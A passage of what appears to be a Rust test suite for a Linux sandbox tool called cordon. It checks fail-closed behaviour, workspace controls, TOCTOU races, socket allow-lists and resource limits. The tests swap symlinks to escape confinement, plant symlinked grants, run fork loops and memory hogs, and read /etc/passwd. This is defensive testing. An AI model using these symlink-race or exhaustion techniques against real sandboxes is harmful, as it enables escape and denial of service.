case!(gap_degraded_hosts_fail_closed_or_declare_every_gap, |c| {
    let ws = git_ws(c, "repo");
    for (label, env) in degraded_hosts() {
        // Without --best-effort: refuse, or run with nothing missing.
        let mut strict = opts_at(c, WORKSPACE_WRITE, &ws);
        strict.env = env.clone();
        match c.probe_or_refusal(&strict, "true", &[])? {
            Ok(r) => {
                let out = r.run.as_ref().unwrap();
                let gaps = gap_names(out);
                assert!(gaps.is_empty(), "{label}: ran without --best-effort despite gaps {gaps:?}: {out:?}");
                assert_eq!(out.j()["sandbox"]["enforcement"]["level"], "full", "{label}: {out:?}");
            }
            Err(out) => {
                assert_eq!(out.status.code(), Some(125), "{label}: refusal must exit 125: {out:?}");
            }
        }
        // With --best-effort: whatever does not hold must be declared.
        let mut be = strict.clone();
        be.extra_args = vec!["--best-effort".into()];
        match degraded_battery(c, &be, &label)? {
            None => loud(&format!(
                "NOTE gap_degraded_hosts [{}]: {label}: cordon did not run the command even with --best-effort",
                c.id.name
            )),
            Some((gaps, bad)) => {
                let undeclared: Vec<_> = bad.iter().filter(|(r, _)| !gaps.iter().any(|g| g == r)).collect();
                assert!(
                    undeclared.is_empty(),
                    "{label}: protections failed without a declared gap (declared: {gaps:?}):\n{undeclared:#?}"
                );
            }
        }
    }
});

case!(gap_best_effort_still_runs_and_keeps_workspace_usable, |c| {
    if !landlock_pass(c) {
        return Ok(());
    }
    // --best-effort exists so that a degraded host can still run commands: the run must
    // happen, and ordinary workspace work (renames and links across directories) must
    // keep working at every Landlock ABI.
    let mut failures = vec![];
    for (label, env) in degraded_hosts() {
        let ws = c.ws.join(format!("be-{label}"));
        c.mkdir(&ws.join("a"));
        c.mkdir(&ws.join("b"));
        c.file(&ws.join("a/f"), "x\n");
        let mut o = opts_at(c, WORKSPACE_WRITE, &ws);
        o.env = env;
        o.extra_args = vec!["--best-effort".into()];
        match c.probe_or_refusal(&o, "rename", &[s(&ws.join("a/f")), s(&ws.join("b/f"))])? {
            Err(out) => failures.push(format!("{label}: did not run with --best-effort: {}", out.stdout.trim())),
            Ok(r) if !r.ok => failures.push(format!("{label}: rename a/f -> b/f inside the workspace: {r:?}")),
            Ok(_) => {
                let r = c.probe_with(&o, "link", &[s(&ws.join("b/f")), s(&ws.join("a/hl"))])?;
                if !r.ok {
                    failures
                        .push(format!("{label}: link b/f -> a/hl inside the workspace: {} {}", r.errname, r.detail));
                }
            }
        }
    }
    assert!(failures.is_empty(), "best-effort runs broken:\n{}", failures.join("\n"));
});

// =====================================================================================
// 11. Positive controls: the sandbox must not block ordinary work.
// =====================================================================================

case!(ctl_compile_and_run_c_in_workspace, |c| {
    c.file(&c.ws.join("hello.c"), "#include <stdio.h>\nint main(void){puts(\"hello from cordon\");return 0;}\n");
    let out = c.sh(&c.opts(WORKSPACE_WRITE), "cc -O2 -Wall -o hello hello.c && ./hello")?;
    out.assert_success();
    assert!(out.out().contains("hello from cordon"), "{out:?}");
    assert!(c.ws.join("hello").is_file(), "the compiled binary should be in the workspace");
});

case!(ctl_git_read_commands_work, |c| {
    let ws = git_ws(c, "repo");
    c.file(&ws.join("new-file"), "x\n");
    for mode in CONFINED {
        let out = c.sh(
            &opts_at(c, mode, &ws),
            "git status --porcelain && git log --oneline && git diff --stat HEAD && git rev-parse HEAD && git show --stat HEAD >/dev/null",
        )?;
        out.assert_success();
        assert!(out.out().contains("initial commit"), "git log inside ({mode}): {out:?}");
        assert!(out.out().contains("?? new-file"), "git status inside ({mode}): {out:?}");
    }
});

case!(ctl_workspace_file_operations_work, |c| {
    let w = |p: &str| c.ws.join(p);
    let o = c.opts(WORKSPACE_WRITE);
    let steps: Vec<(&str, Vec<PathBuf>, Vec<&str>)> = vec![
        ("write", vec![w("a")], vec!["first\n"]),
        ("append", vec![w("a")], vec!["second\n"]),
        ("create", vec![w("b")], vec![]),
        ("rename", vec![w("b"), w("b2")], vec![]),
        ("exchange", vec![w("a"), w("b2")], vec![]),
        ("link", vec![w("b2"), w("hard")], vec![]),
        ("symlink", vec![PathBuf::from("hard"), w("soft")], vec![]),
        ("symlink-write", vec![w("a"), w("soft2")], vec!["via symlink\n"]),
        ("truncate", vec![w("hard"), PathBuf::from("5")], vec![]),
        ("ftruncate", vec![w("a"), PathBuf::from("3")], vec![]),
        ("write", vec![w("c")], vec!["ccc\n"]),
        ("open-trunc", vec![w("c")], vec![]),
        ("mkdir", vec![w("d")], vec![]),
        ("mkdir", vec![w("e")], vec![]),
        ("rmdir", vec![w("e")], vec![]),
        ("rename", vec![w("d"), w("d2")], vec![]),
        ("mkfifo", vec![w("fifo")], vec![]),
        ("tmpfile-link", vec![c.ws.clone(), w("from-tmpfile")], vec![]),
        ("unlink", vec![w("fifo")], vec![]),
    ];
    for (op, paths, extra) in steps {
        let mut args: Vec<&str> = paths.iter().map(|p| s(p)).collect();
        args.extend(extra);
        c.probe_with(&o, op, &args)?.assert_ok(&format!("{op} inside the workspace"));
    }
    // a: "first\nsecond\n" -> exchanged with b2 (probe default data) -> + "via symlink\n"
    // -> ftruncate 3. b2 (== hard): "first\nsecond\n" -> truncate 5.
    assert_eq!(fs::read_to_string(w("hard")).unwrap(), "first", "rename/exchange/link/truncate effects");
    assert_eq!(fs::read_to_string(w("b2")).unwrap(), "first", "hardlink shares the inode");
    assert_eq!(fs::read_to_string(w("a")).unwrap(), "cor", "exchange + symlink-write + ftruncate effects");
    assert_eq!(fs::read_link(w("soft")).unwrap(), PathBuf::from("hard"));
    assert_eq!(fs::metadata(w("c")).unwrap().len(), 0);
    assert!(w("d2").is_dir() && !w("e").exists() && !w("fifo").exists());
    assert!(w("from-tmpfile").is_file());
});

case!(ctl_workspace_metadata_operations_work, |c| {
    let f = c.file(&c.ws.join("script.sh"), "#!/bin/sh\necho ran-script\n");
    let o = c.opts(WORKSPACE_WRITE);
    c.probe_with(&o, "chmod", &[s(&f), "0755"])?.assert_ok("chmod +x in the workspace");
    c.probe_with(&o, "utimes", &[s(&f)])?.assert_ok("utimes in the workspace");
    let m = fs::metadata(&f).unwrap();
    assert_eq!(m.mode() & 0o777, 0o755);
    assert_eq!(m.mtime(), 1_000_000_000);
    let out = c.sh(&o, "./script.sh && touch -c script.sh")?;
    out.assert_success();
    assert!(out.out().contains("ran-script"));
});

case!(ctl_private_tmpdir_is_writable, |c| {
    for mode in CONFINED {
        let r = c.probe(mode, "tmpdir", &[])?;
        r.assert_ok("mkstemp in $TMPDIR");
        assert!(r.detail.contains("TMPDIR=/tmp;"), "TMPDIR should be /tmp: {r:?}");
        let out = c.sh(&c.opts(mode), "f=$(mktemp) && echo tmp-ok > \"$f\" && cat \"$f\" && rm \"$f\" && mkdir /tmp/d && echo shm > /dev/shm/x && cat /dev/shm/x")?;
        out.assert_success();
        assert!(out.out().contains("tmp-ok") && out.out().contains("shm"), "{out:?}");
    }
});

case!(ctl_pipes_and_job_control_work, |c| {
    for mode in CONFINED {
        let out = c.sh(
            &c.opts(mode),
            "echo abc | tr a-z A-Z; (sleep 0.1; echo from-bg) & wait; set -m 2>/dev/null; sleep 0.05 & wait %1 2>/dev/null; echo done",
        )?;
        out.assert_success();
        assert_eq!(out.out(), "ABC\nfrom-bg\ndone\n", "{out:?}");
    }
    c.probe(WORKSPACE_WRITE, "socketpair", &[])?.assert_ok("socketpair must work");
});

case!(ctl_read_system_and_dev_null, |c| {
    for mode in CONFINED {
        let r = c.probe(mode, "read", &["/etc/passwd"])?;
        r.assert_ok("read /etc/passwd");
        assert!(r.detail.contains("root:"), "{r:?}");
        let out = c.sh(&c.opts(mode), "echo x > /dev/null && cat /dev/null && ls /usr/bin >/dev/null && head -c 4 /dev/urandom | wc -c && uname -s")?;
        out.assert_success();
        assert!(out.out().contains("4") && out.out().contains("Linux"), "{out:?}");
    }
});

case!(ctl_workspace_reached_through_symlink, |c| {
    let link = c.root.join("ws-link");
    c.symlink(&c.ws, &link);
    let mut o = c.opts(WORKSPACE_WRITE);
    o.cwd = Some(link.clone());
    c.probe_with(&o, "write", &[s(&link.join("via-link"))])?.assert_ok("write via the symlinked workspace path");
    c.probe_with(&o, "write", &["relative"])?.assert_ok("write relative to the symlinked workspace");
    assert!(c.ws.join("via-link").is_file() && c.ws.join("relative").is_file());
    let sent = c.sentinel(&c.outside.join("target"));
    c.probe_with(&o, "overwrite", &[s(&sent.path)])?.assert_refused("outside stays read-only");
    sent.assert_unchanged("outside via symlinked workspace");
});

case!(ctl_writable_root_works, |c| {
    let extra = c.root.join("extra");
    c.mkdir(&extra);
    let mut o = c.opts(WORKSPACE_WRITE);
    o.writable.push(extra.clone());
    let p = extra.join("written");
    c.probe_with(&o, "write", &[s(&p)])?.assert_ok("write into a --writable root");
    assert!(p.is_file(), "the write into the writable root should be visible on the host");
    let sent = c.sentinel(&c.outside.join("target"));
    c.probe_with(&o, "overwrite", &[s(&sent.path)])?.assert_refused("a sibling of the writable root");
    sent.assert_unchanged("sibling of the writable root");
    // read-only never widens: a --writable root is dropped, not honoured.
    let mut o = c.opts(READ_ONLY);
    o.writable.push(extra.clone());
    let p = extra.join("written-read-only");
    c.probe_with(&o, "write", &[s(&p)])?.assert_refused_with(FS_DENIED, "read-only with --writable");
    assert_absent(&p, "read-only with --writable");
});

/// A directory tree under the host /tmp, removed when dropped.
struct TmpTree(PathBuf);
impl Drop for TmpTree {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

case!(ctl_workspace_and_writable_root_under_tmp, |c| {
    let t = TmpTree(PathBuf::from(format!("/tmp/cordon-tests-{}-{}", std::process::id(), c.unique())));
    let ws = t.0.join("ws");
    let extra = t.0.join("extra");
    c.mkdir(&t.0);
    c.mkdir(&ws);
    c.mkdir(&extra);
    let mut o = opts_at(c, WORKSPACE_WRITE, &ws);
    o.writable.push(extra.clone());
    c.probe_with(&o, "write", &[s(&ws.join("in-ws")), "ws\n"])?.assert_ok("write a /tmp workspace");
    c.probe_with(&o, "write", &[s(&extra.join("in-extra")), "extra\n"])?.assert_ok("write a /tmp writable root");
    assert_eq!(fs::read_to_string(ws.join("in-ws")).unwrap(), "ws\n");
    assert_eq!(fs::read_to_string(extra.join("in-extra")).unwrap(), "extra\n");
    let r = c.probe_with(&o, "read", &[s(&ws.join("in-ws"))])?;
    r.assert_ok("read back");
    // A host /tmp sibling of the roots is readable through the private layer; what
    // is made beside them stays in it.
    let secret = format!("sibling-{}", c.unique());
    let sib = c.file(&t.0.join("sibling"), &secret);
    let r = c.probe_with(&o, "read", &[s(&sib)])?;
    assert!(r.detail.contains(&secret), "a host /tmp sibling of the workspace is not readable: {r:?}");
    let newf = t.0.join("planted");
    c.probe_with(&o, "create", &[s(&newf)])?.assert_ok("create next to a /tmp workspace (in the private layer)");
    assert_absent(&newf, "create next to a /tmp workspace");
});

case!(ctl_full_access_is_unconfined, |c| {
    let p = c.outside.join("full-access");
    c.probe(FULL_ACCESS, "write", &[s(&p)])?.assert_ok("full-access writes outside the workspace");
    assert!(p.is_file());
    let t = TcpTrap::v4();
    c.probe(FULL_ACCESS, "tcp", &["127.0.0.1", &t.port_s()])?.assert_ok("full-access has network");
    assert!(t.connected_within(500));
});

case!(ctl_network_flag_allows_loopback, |c| {
    let mut o = c.opts(WORKSPACE_WRITE);
    o.network = true;
    let t = TcpTrap::v4();
    c.probe_with(&o, "tcp", &["127.0.0.1", &t.port_s()])?.assert_ok("--network: TCP connect");
    assert!(t.connected_within(500), "--network: the listener saw no connection");
    let u = UdpTrap::v4();
    c.probe_with(&o, "udp", &["127.0.0.1", &u.port_s()])?.assert_ok("--network: UDP send");
    assert!(u.received(), "--network: no datagram arrived");
    // --network widens the network only: files outside stay read-only.
    let sent = c.sentinel(&c.outside.join("target"));
    c.probe_with(&o, "overwrite", &[s(&sent.path)])?.assert_refused("--network must not widen files");
    sent.assert_unchanged("--network");
});

case!(ctl_default_cwd_is_the_workspace, |c| {
    let mut o = c.opts("");
    o.cwd = None;
    o.process_cwd = Some(c.ws.clone());
    c.probe_with(&o, "write", &["default-cwd-file"])?.assert_ok("default workspace is the current directory");
    assert!(c.ws.join("default-cwd-file").is_file());
    let sent = c.sentinel(&c.outside.join("target"));
    let r = c.probe_with(&o, "overwrite", &[s(&sent.path)])?;
    let out = r.run.as_ref().unwrap();
    assert_eq!(out.j()["sandbox"]["mode"].as_str(), Some(WORKSPACE_WRITE), "default mode: {out:?}");
    r.assert_refused("default mode confines");
    sent.assert_unchanged("default mode");
});

// =====================================================================================
// 12. Time of check, time of use: every checked path is resolved once (issue 9.1).
// =====================================================================================

/// Every entry directly in `dir` (names only).
fn names_in(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = fs::read_dir(dir)
        .map(|r| r.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect())
        .unwrap_or_default();
    v.sort();
    v
}

/// `cordon serve --mode workspace-write --cwd <ws>` as the case's identity, on the
/// pass's runner (serve has no `--runner` flag: the other runner is disabled), with a
/// synchronous request/response helper.
struct ServeConn {
    child: std::process::Child,
    stdin: Option<std::process::ChildStdin>,
    lines: std::io::Lines<std::io::BufReader<std::process::ChildStdout>>,
}

impl ServeConn {
    fn start(c: &Ctx) -> ServeConn {
        use std::io::BufRead;
        let mut cmd = std::process::Command::new(&c.suite.cordon);
        cmd.env_clear().env("PATH", PATH_ENV).env("LANG", "C");
        c.id.apply(&mut cmd);
        if c.runner != "landlock" {
            cmd.env("CORDON_DISABLE_RUNNERS", "landlock");
        }
        cmd.args(["serve", "--mode", "workspace-write", "--cwd"]).arg(&c.ws);
        cmd.stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null());
        cmd.current_dir(&c.ws);
        let mut child = cmd.spawn().expect("spawn cordon serve");
        let stdin = child.stdin.take();
        let lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
        ServeConn { child, stdin, lines }
    }

    /// Send one request and wait for the response with its id.
    fn call(&mut self, id: usize, method: &str, params: serde_json::Value) -> serde_json::Value {
        use std::io::Write;
        let req = serde_json::json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
        writeln!(self.stdin.as_mut().expect("open"), "{req}").unwrap();
        loop {
            let line = self.lines.next().expect("serve closed its output").unwrap();
            let v: serde_json::Value = serde_json::from_str(&line).unwrap();
            if v["id"] == id {
                return v;
            }
        }
    }

    /// Start the in-sandbox flipper (probe `flip`): `real` and `link` exchanged every
    /// millisecond for `secs` seconds. Returns its handle.
    fn start_flipper(&mut self, c: &Ctx, real: &Path, link: &Path, secs: u32) -> serde_json::Value {
        let argv = serde_json::json!([s(&c.suite.probe), "flip", s(real), s(link), secs.to_string(), "1000"]);
        let flip = self.call(0, "start", serde_json::json!({"argv": argv, "timeout_ms": (secs + 30) * 1000}));
        assert!(flip.get("result").is_some(), "the flipper did not start: {flip}");
        flip["result"]["handle"].clone()
    }

    /// Stop the flipper (request ids `id`, `id + 1`) and put the real directory back
    /// at `real` (done on the host) for the control request that follows.
    fn stop_flipper(&mut self, c: &Ctx, id: usize, handle: &serde_json::Value, real: &Path, link: &Path) {
        let _ = self.call(id, "kill", serde_json::json!({"handle": handle}));
        let _ = self.call(id + 1, "read", serde_json::json!({"handle": handle}));
        if !fs::symlink_metadata(real).map(|m| m.is_dir()).unwrap_or(false) {
            c.host_sh(&format!("mv {0} {0}.tmp && mv {1} {0} && mv {0}.tmp {1}", s(real), s(link)));
        }
    }

    /// End of input, then wait for the server to exit.
    fn close(mut self) {
        drop(self.stdin.take());
        let _ = self.child.wait();
    }
}

case!(toctou_writable_root_through_a_planted_symlink_is_refused, |c| {
    // An earlier sandboxed run planted `ws/build/out -> <outside>`; a caller then asks
    // for `--writable ws/build/out`. The grant must not follow the link.
    c.mkdir(&c.ws.join("build"));
    c.symlink(&c.outside, &c.ws.join("build/out"));
    let mut o = c.opts(WORKSPACE_WRITE);
    o.writable = vec![c.ws.join("build/out")];
    o.expect_error = true;
    let marker = c.ws.join("build/out/planted-grant");
    let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(&marker)])?;
    assert_absent(&c.outside.join("planted-grant"), &format!("a symlinked writable root granted its target: {out:?}"));
    assert_eq!(out.status.code(), Some(125), "{out:?}");
    assert_eq!(out.json.as_ref().and_then(|j| j["error"]["code"].as_str()), Some("INVALID_POLICY"), "{out:?}");

    // A workspace reached through a symlink is resolved once and reported (see
    // ctl_workspace_reached_through_symlink): the report names the real directory.
    let mut o = opts_at(c, WORKSPACE_WRITE, &c.ws.join("build/out"));
    o.mode = READ_ONLY.into();
    let out = c.cordon(&o, &[s(&c.suite.probe), "true"])?;
    assert_eq!(out.j()["sandbox"]["writable_roots"], serde_json::json!([]), "read-only grants nothing: {out:?}");

    // Control: the real directory, named as it is, works and is reported as enforced.
    let mut o = c.opts(WORKSPACE_WRITE);
    o.writable = vec![c.outside.clone()];
    let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(&c.outside.join("real-grant"))])?;
    out.assert_success();
    assert!(c.outside.join("real-grant").exists(), "control: a real writable root works: {out:?}");
    let roots: Vec<&str> = out.j()["sandbox"]["writable_roots"]
        .as_array()
        .map(|a| a.iter().filter_map(|v| v.as_str()).collect())
        .unwrap_or_default();
    assert_eq!(roots, [s(&c.ws), s(&c.outside)], "sandbox.writable_roots names what was granted: {out:?}");
});

case!(toctou_serve_swaps_during_setup_never_reach_outside, |c| {
    // A background run (the flipper) exchanges the workspace subdirectory `sub` with a
    // symlink to a host directory outside the ceiling, as fast as it can, while the
    // same server handles requests whose workdir and writable root are `sub`. Before
    // pinning, the check saw the directory and the mounts/Landlock/chdir followed the
    // symlink (tens of hits per thousand requests). Judged by effect: nothing may
    // ever appear outside; the control is that requests did run and write in `sub`.
    const REQUESTS: usize = 400;
    let real = c.ws.join("sub");
    let link = c.ws.join("sublink");
    c.mkdir(&real);
    c.symlink(&c.outside, &link);
    let mut serve = ServeConn::start(c);
    let flipper = serve.start_flipper(c, &real, &link, 30);
    let mut call = |id: usize, method: &str, params: serde_json::Value| serve.call(id, method, params);
    let mut ran = 0;
    for i in 1..=REQUESTS {
        let name = format!("m{i}");
        let r = call(
            i,
            "run",
            serde_json::json!({"argv": [s(&c.suite.probe), "create", name], "workdir": "sub", "writable_roots": ["sub"]}),
        );
        if r["result"]["exit_code"] == 0 {
            ran += 1;
        }
    }
    // Control: with the flipper stopped and the real directory back at `sub`, the same
    // request runs and writes there.
    serve.stop_flipper(c, REQUESTS + 1, &flipper, &real, &link);
    let r = serve.call(
        REQUESTS + 3,
        "run",
        serde_json::json!({"argv": [s(&c.suite.probe), "create", "control"], "workdir": "sub", "writable_roots": ["sub"]}),
    );
    serve.close();
    let leaked = names_in(&c.outside);
    assert!(leaked.is_empty(), "requests wrote outside the ceiling through a swapped path: {leaked:?}");
    assert!(real.join("control").exists(), "control: the request did not run in the real `sub`: {r}");
    eprintln!("toctou serve race: {ran}/{REQUESTS} requests ran during the swaps, 0 outside");
});

// Review finding (review1, 2): bubblewrap resolves bind DESTINATIONS itself, following
// symlinks, and creates a missing one (`mkdir`, or an empty file for a file bind)
// before mounting. While it builds the sandbox its process root is its own tmpfs with
// the host's root at `/oldroot`, so a destination `ws/a/b` whose `a` was swapped (after
// the pin) for a symlink to `/oldroot/<outside>` made bubblewrap create `<outside>/b` on
// the host. cordon's stage now makes the host read-only (but for the writable roots)
// before bubblewrap runs, so such a creation fails. Racy: judged over 300 requests.
#[test]
fn toctou_serve_bwrap_destination_swaps_never_create_outside() {
    each_identity("toctou_serve_bwrap_destination_swaps_never_create_outside", |c: &Ctx| -> Result<(), Skip> {
        const REQUESTS: usize = 300;
        let real = c.ws.join("a");
        let link = c.ws.join("alink");
        c.mkdir(&real.join("b"));
        c.symlink(&Path::new("/oldroot").join(c.outside.strip_prefix("/").unwrap()), &link);
        let mut serve = ServeConn::start(c);
        let flipper = serve.start_flipper(c, &real, &link, 60);
        for i in 1..=REQUESTS {
            let _ = serve.call(
                i,
                "run",
                serde_json::json!({"argv": [s(&c.suite.probe), "create", format!("m{i}")], "workdir": "a/b"}),
            );
            if !names_in(&c.outside).is_empty() {
                break;
            }
        }
        serve.stop_flipper(c, REQUESTS + 1, &flipper, &real, &link);
        // Control: without the flipper the request runs and writes in the real `a/b`.
        let r = serve.call(
            REQUESTS + 3,
            "run",
            serde_json::json!({"argv": [s(&c.suite.probe), "create", "control"], "workdir": "a/b"}),
        );
        serve.close();
        let leaked = names_in(&c.outside);
        assert!(leaked.is_empty(), "bubblewrap created entries outside the ceiling: {leaked:?}");
        assert!(real.join("b/control").exists(), "control: the request did not run in the real `a/b`: {r}");
        Ok(())
    });
}

case!(net_allow_unix_socket_opens_exactly_the_named_socket, |c| {
    // `--allow-unix-socket PATH`: that host socket is reached (the supervisor performs
    // the connect on the command's socket), every other unix socket stays closed, with
    // the network on and off; with the network on, TCP still works (its connects are
    // performed the same way).
    for network in [true, false] {
        let dir = SockDir::new();
        let (allowed_p, other_p) = (dir.0.join("ok.sock"), dir.0.join("no.sock"));
        let allowed = UnixTrap::stream_path(c, &allowed_p);
        let other = UnixTrap::stream_path(c, &other_p);
        let mut o = c.opts(WORKSPACE_WRITE);
        o.network = network;
        o.extra_args = vec!["--allow-unix-socket".into(), s(&allowed_p).into()];
        let r = c.probe_with(&o, "unix-connect", &[s(&allowed_p)])?;
        r.assert_ok(&format!("network {network}: connect to the allowed socket"));
        assert!(allowed.touched_within(500), "network {network}: the allowed listener saw nothing");
        let r = c.probe_with(&o, "unix-connect", &[s(&other_p)])?;
        other.assert_untouched(&format!("network {network}: a socket that was not named"));
        r.assert_refused_with(NET_DENIED, &format!("network {network}: connect to a socket not named"));
        // Reaching the allowed socket through another spelling (a symlink to it) is
        // refused: only the exact path named is performed.
        let link = dir.0.join("ln.sock");
        std::os::unix::fs::symlink(&allowed_p, &link).unwrap();
        let again = UnixTrap::stream_path(c, &dir.0.join("unused.sock"));
        let r = c.probe_with(&o, "unix-connect", &[s(&link)])?;
        r.assert_refused_with(NET_DENIED, &format!("network {network}: the allowed socket through a symlink"));
        drop(again);
        if network {
            let t = TcpTrap::v4();
            c.probe_with(&o, "tcp", &["127.0.0.1", &t.port_s()])?.assert_ok("allow-list + network: loopback TCP");
            assert!(t.connected_within(500), "allow-list + network: the TCP listener saw no connection");
        } else {
            let t = TcpTrap::v4();
            let r = c.probe_with(&o, "tcp", &["127.0.0.1", &t.port_s()])?;
            t.assert_untouched("allow-list, network off: TCP");
            r.assert_refused_with(LOOPBACK_MISSED, "allow-list, network off: TCP");
            // The run's own unix sockets work beside the allowed one.
            let own = format!("own-{}.sock", c.unique());
            c.probe_with(&o, "unix-echo", &[&own])?.assert_ok("allow-list, network off: the run's own socket");
        }
    }
});

// ---------------------------------------------------------------- resource limits
// The host itself: nothing a run does may exhaust its processes or memory, fill an
// unbounded tmpfs, or get cordon (rather than the command) killed. See
// docs/guarantees.md ("Resource limits") and src/limits.rs.

/// `opts` plus limit flags.
fn with_args(mut o: RunOpts, args: &[&str]) -> RunOpts {
    o.extra_args.extend(args.iter().map(|a| a.to_string()));
    o
}

/// Host pids still mentioning `mark` after at most 5 s of waiting for them to exit.
fn wait_gone(mark: &str) -> Vec<String> {
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    loop {
        let left = host_pids_with(mark);
        if left.is_empty() || std::time::Instant::now() > deadline {
            return left;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The modes the limit cases cover: both confined ones and the unconfined one (the
/// limits protect the host in every mode).
const LIMIT_MODES: [&str; 2] = [WORKSPACE_WRITE, FULL_ACCESS];

case!(limits_a_fork_loop_is_contained_and_nothing_survives, |c| {
    c.host_probe("fork-loop", &["3", "50"]).assert_ok("control: forking works on the host");
    for mode in LIMIT_MODES {
        let mark = format!("forkmark-{}-{mode}", c.unique());
        let o = with_args(c.opts(mode), &["--limit-pids", "64"]);
        // Each child sleeps a minute: whatever is still there afterwards survived the run.
        let r = c.probe_with(&o, "fork-loop", &["2000", "60000", &mark])?;
        let j = r.run.as_ref().unwrap().j().clone();
        assert_eq!(r.errname, "EAGAIN", "{mode}: the fork loop must end at the pids limit\n{r:?}");
        let forked: u64 = r.detail.split("forked=").nth(1).and_then(|v| v.split(';').next()?.parse().ok()).unwrap();
        assert!(forked < 64, "{mode}: {forked} children with --limit-pids 64\n{r:?}");
        assert_eq!(j["limits"]["pids"], 64, "{j}");
        if j["limits"]["pids_by"].as_str().is_some_and(|m| m.starts_with("cgroup")) {
            assert_eq!(j["limit"], "pids", "{mode}: a cgroup saw the refused forks\n{j}");
        }
        // SIGKILL is delivered asynchronously: without a cgroup to sweep (which waits
        // until it is empty), the killed children may take a moment to exit.
        let left = wait_gone(&mark);
        assert!(left.is_empty(), "{mode}: processes {left:?} of the fork loop outlived the run\n{r:?}");
    }
});

// Many small processes over the memory limit: the OOM killer must end the command's
// processes, never cordon. (A run's init shares cordon's memory; were it in the run's
// memory cgroup, or carrying the command's oom_score_adj, the kernel would score it by
// cordon's whole memory and kill every process sharing that memory with it.)
case!(limits_an_oom_among_many_small_processes_spares_cordon, |c| {
    let probe = s(&c.suite.probe).to_string();
    for mode in LIMIT_MODES {
        // --best-effort: without a memory cgroup (unprivileged here) the run is not
        // refused; then nothing is OOM-killed, and only cordon's result is judged.
        let o = with_args(c.opts(mode), &["--limit-memory", "64M", "--best-effort"]);
        let script = format!("for i in $(seq 48); do '{probe}' alloc 3 2000 >/dev/null & done; wait; echo after-wait");
        // cordon itself killed: no result, and `c.cordon` fails the test.
        let out = c.cordon(&o, &["/bin/sh", "-c", &script])?;
        let j = out.json.as_ref().expect("cordon's result").clone();
        if j["limits"]["memory_by"].as_str().is_some_and(|m| m.starts_with("cgroup")) {
            assert_eq!(j["limit"], "memory", "{mode}: 144 MiB in 48 processes under a 64 MiB cgroup\n{j}");
        }
    }
    // The command carries the OOM score, its init (the landlock runner's pid 1; under
    // bwrap the parent is bubblewrap's) does not.
    if c.runner == "landlock" {
        let o = c.opts(WORKSPACE_WRITE);
        let r = c.cordon(&o, &["/bin/sh", "-c", "cat /proc/self/oom_score_adj /proc/$PPID/oom_score_adj"])?;
        let j = r.json.as_ref().expect("cordon's result");
        let seen: Vec<&str> = j["stdout"]["text"].as_str().unwrap_or("").lines().collect();
        assert_eq!(seen.first().copied(), Some("1000"), "the command is the OOM killer's first choice: {j}");
        let init = seen.get(1).copied();
        assert!(init.is_some_and(|v| v != "1000"), "the init's OOM score {init:?} (unread or the command's): {j}");
    }
});

case!(limits_a_memory_hog_is_stopped_and_reported, |c| {
    c.host_probe("alloc", &["128"]).assert_ok("control: 128 MiB can be allocated on the host");
    for mode in LIMIT_MODES {
        let o = with_args(c.opts(mode), &["--limit-memory", "64M"]);
        let small = c.probe_or_refusal(&o, "alloc", &["8"])?;
        let r = match c.probe_or_refusal(&o, "alloc", &["1024"])? {
            Ok(r) => r,
            Err(out) => {
                // Only a host without a usable memory cgroup may refuse, and only in
                // a confined mode without --best-effort, naming the limit.
                assert_eq!(out.status.code(), Some(125), "{mode}: {out:?}");
                assert!(out.stdout.contains("limit-memory"), "{mode}: the refusal must name limit-memory: {out:?}");
                if c.id.is_root() {
                    skip_or_fail(&c.test, &format!("no memory cgroup for root here: {}", out.stdout));
                }
                // With --best-effort it runs, and says the limit is not the run's total.
                let be = with_args(o.clone(), &["--best-effort"]);
                let r = c.probe_with(&be, "alloc", &["1024"])?;
                let out = r.run.as_ref().unwrap();
                assert!(gap_names(out).contains(&"limit-memory".to_string()), "{out:?}");
                assert!(!r.ok, "{mode}: RLIMIT_DATA must stop one process allocating 1 GiB: {r:?}");
                continue;
            }
        };
        let small = small.expect("the same policy ran the big allocation");
        small.assert_ok(&format!("{mode}: control: 8 MiB fits in a 64 MiB limit"));
        let j = r.run.as_ref().unwrap().j().clone();
        assert!(!r.ok, "{mode}: 1 GiB allocated under --limit-memory 64M: {r:?}");
        assert_eq!(j["limits"]["memory"], 64 << 20, "{j}");
        if j["limits"]["memory_by"].as_str().is_some_and(|m| m.starts_with("cgroup")) {
            assert_eq!(r.signal.as_deref(), Some("SIGKILL"), "{mode}: the OOM killer ends the hog: {r:?}");
            assert_eq!(j["limit"], "memory", "{mode}: the OOM kill must be reported\n{j}");
        } else {
            assert!(gap_names(r.run.as_ref().unwrap()).contains(&"limit-memory".to_string()), "{j}");
        }
    }
});

case!(limits_private_tmp_fills_to_its_size_then_enospc, |c| {
    // --best-effort: the tmpfs bound holds on every host; the memory limit itself may
    // be a declared gap for an unprivileged uid (tested above).
    let o = with_args(c.opts(WORKSPACE_WRITE), &["--limit-memory", "64M", "--best-effort"]);
    let size: i64 = 16 << 20;
    for dir in ["/tmp", "/dev/shm"] {
        let r = c.probe_with(&o, "fill", &[&format!("{dir}/fill"), "100000000"])?;
        let j = r.run.as_ref().unwrap().j().clone();
        assert_eq!(j["limits"]["tmpfs_size"], size, "{j}");
        r.assert_refused_with(&["ENOSPC"], &format!("{dir} must be full at its size"));
        let bytes: i64 = r.detail.split("bytes=").nth(1).and_then(|v| v.split(';').next()?.parse().ok()).unwrap();
        assert!(bytes <= size && bytes > 0, "{dir}: wrote {bytes} bytes into a {size}-byte tmpfs: {r:?}");
    }
    // Control: the same amount fits in the workspace (the bound is the tmpfs's).
    c.probe_with(&o, "fill", &[s(&c.ws.join("fill")), &(size + (1 << 20)).to_string()])?
        .assert_ok("control: the workspace takes more than the tmpfs size");
});

case!(limits_a_cpu_busy_loop_ends_at_its_cpu_limit, |c| {
    for mode in LIMIT_MODES {
        let o = with_args(c.opts(mode), &["--limit-cpu", "1"]);
        c.probe_with(&o, "true", &[])?.assert_ok(&format!("{mode}: control: a short command runs under --limit-cpu 1"));
        let r = c.probe_with(&o, "spin", &[])?;
